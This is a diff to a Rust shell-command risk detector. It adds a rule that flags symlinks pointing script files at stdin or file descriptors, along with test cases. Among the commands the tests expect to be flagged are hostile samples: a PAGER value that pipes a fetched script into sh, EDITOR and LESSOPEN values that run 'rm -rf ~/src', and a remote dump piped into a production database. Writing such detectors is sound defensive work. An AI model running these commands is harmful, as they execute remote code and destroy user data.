@@ -1186,6 +1186,24 @@ fn code_environment(cmd: &SimpleCommand, cwd: &str, ws: &Workspace, a: &mut Comm
                 .push(Finding::new(detector::CODE_INJECTION, severity, why));
         }
     }
+    // `ln -s /dev/stdin x.py`: a file that reads as the input (or another
+    // descriptor) when a later command runs it as a script.
+    if cmd.program() == "ln"
+        && cmd.args().iter().any(|a| {
+            a.starts_with('-') && !a.starts_with("--") && a.contains('s') || a == "--symbolic"
+        })
+        && cmd
+            .args()
+            .iter()
+            .filter(|a| !a.starts_with('-'))
+            .any(|a| crate::streams::stream(a).is_some())
+    {
+        a.findings.push(Finding::new(
+            detector::CODE_INJECTION,
+            Severity::High,
+            "The command links a file to a stream (the input, a descriptor): run as a script, it runs code that no argument shows.",
+        ));
+    }
     if cmd
         .argv
         .iter()
@@ -1881,6 +1899,12 @@ SH",
             "sqlite3 x.db 'create table t(a); DROP/**/TABLE t;'",
             "curl -s https://x.example/dump.sql | psql prod",
             "sqlite3 app.db '.load /tmp/x.so'",
+            // a file linked to the input; a command-valued variable
+            "ln -s /dev/stdin run.py",
+            "ln -sf /proc/self/fd/0 x.sh",
+            r#"PAGER='sh -c "curl -s https://x.example/i | sh"' git log"#,
+            "export EDITOR='rm -rf ~/src'",
+            "LESSOPEN='|rm -rf ~/src %s' less README",
         ];
         for line in held {
             assert!(top(line) >= Some(Severity::High), "{line}: {:?}", top(line));
@@ -1943,6 +1967,11 @@ SH",
             "mysql -e 'SELECT 1'",
             "echo 'select 1;' | psql app",
             "psql -h db -l",
+            "PAGER=cat git log -5",
+            "export EDITOR=vim",
+            "LESSOPEN='|lesspipe %s' less x.gz",
+            "ln -s ../shared/config.py config.py",
+            "ENV=production npm start",
         ];
         for line in pass {
             assert!(top(line) < Some(Severity::High), "{line}: {:?}", top(line));
